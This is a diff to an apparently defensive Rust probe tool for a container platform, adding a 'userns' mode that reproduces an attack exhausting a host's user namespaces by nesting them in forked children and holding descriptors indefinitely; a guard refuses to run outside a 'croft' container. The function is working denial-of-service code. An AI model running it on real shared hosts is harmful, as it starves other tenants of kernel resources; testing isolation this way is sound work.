@@ -91,6 +91,93 @@ fn race(seconds: u64) {
     println!("race attached={attached} won={won}");
 }
 
+/// `syscall_probe userns`: the attack that used up the host's user
+/// namespaces. Makes and holds as many as the kernel grants: each forked
+/// child nests them as deep as it may, the parent keeps a descriptor on
+/// the deepest (which keeps the whole chain alive) and the child exits.
+/// Prints `userns held=N errno=E`, E being what stopped it (28, ENOSPC,
+/// when a child gets none: the budget is used up), then holds them until
+/// killed.
+fn userns_flood() {
+    let mut nofile = libc::rlimit {
+        rlim_cur: 0,
+        rlim_max: 0,
+    };
+    // SAFETY: get/setrlimit read and write a valid rlimit struct.
+    unsafe {
+        libc::getrlimit(libc::RLIMIT_NOFILE, &mut nofile);
+        nofile.rlim_cur = nofile.rlim_max;
+        libc::setrlimit(libc::RLIMIT_NOFILE, &nofile);
+    }
+    let (mut held, mut kept) = (0u64, Vec::new());
+    let errno = loop {
+        let (mut report, mut release) = ([0i32; 2], [0i32; 2]);
+        // SAFETY: pipe writes two descriptors into each valid array.
+        unsafe {
+            libc::pipe(report.as_mut_ptr());
+            libc::pipe(release.as_mut_ptr());
+        }
+        // SAFETY: single-threaded; the child only makes raw system calls.
+        let pid = unsafe { libc::fork() };
+        if pid == 0 {
+            let mut depth = 0i32;
+            // Each level maps our ids, so the next may be made inside it.
+            let map_ids = || {
+                std::fs::write("/proc/self/uid_map", "0 0 1")
+                    .and_then(|()| std::fs::write("/proc/self/setgroups", "deny"))
+                    .and_then(|()| std::fs::write("/proc/self/gid_map", "0 0 1"))
+                    .is_ok()
+            };
+            // SAFETY: plain system calls on our own descriptors.
+            unsafe {
+                while libc::unshare(libc::CLONE_NEWUSER) == 0 && map_ids() {
+                    depth += 1;
+                }
+                let answer = [depth, *libc::__errno_location()];
+                libc::write(report[1], answer.as_ptr().cast(), 8);
+                let mut byte = 0u8;
+                libc::close(release[1]);
+                libc::read(release[0], (&mut byte as *mut u8).cast(), 1);
+                libc::_exit(0);
+            }
+        }
+        let mut answer = [0i32; 2];
+        // SAFETY: reads 8 bytes into a valid array; closes our own ends.
+        unsafe {
+            libc::close(report[1]);
+            libc::close(release[0]);
+            libc::read(report[0], answer.as_mut_ptr().cast(), 8);
+        }
+        let [depth, err] = answer;
+        let opened = std::fs::File::open(format!("/proc/{pid}/ns/user"));
+        // SAFETY: closing our own ends lets the child exit; then reap it.
+        unsafe {
+            libc::close(report[0]);
+            libc::close(release[1]);
+            libc::waitpid(pid, std::ptr::null_mut(), 0);
+        }
+        match opened {
+            Ok(fd) if depth > 0 => {
+                kept.push(fd);
+                held += depth as u64;
+            }
+            Ok(_) => break err,
+            Err(e) => break e.raw_os_error().unwrap_or(-1),
+        }
+        // Both the nesting limit (33 levels) and a used-up budget answer
+        // ENOSPC: a chain cut short goes on with the next child, a child
+        // that got none at all means the budget is gone.
+        if err != libc::ENOSPC {
+            break err;
+        }
+    };
+    println!("userns held={held} errno={errno}");
+    loop {
+        // SAFETY: pause just waits for a signal.
+        unsafe { libc::pause() };
+    }
+}
+
 fn main() {
     if std::env::var("container").as_deref() != Ok("croft") {
         eprintln!("syscall_probe: refusing to run outside a croft VPS (container=croft is not set)");
@@ -103,6 +190,9 @@ fn main() {
     // `syscall_probe ptrace PID`: try to attach to PID (detaching at once
     // should it work) and print `ptrace errno`.
     let args: Vec<String> = std::env::args().collect();
+    if args.get(1).map(String::as_str) == Some("userns") {
+        userns_flood();
+    }
     if let [_, mode, seconds] = args.as_slice() {
         if mode == "race" {
             race(seconds.parse().expect("seconds"));
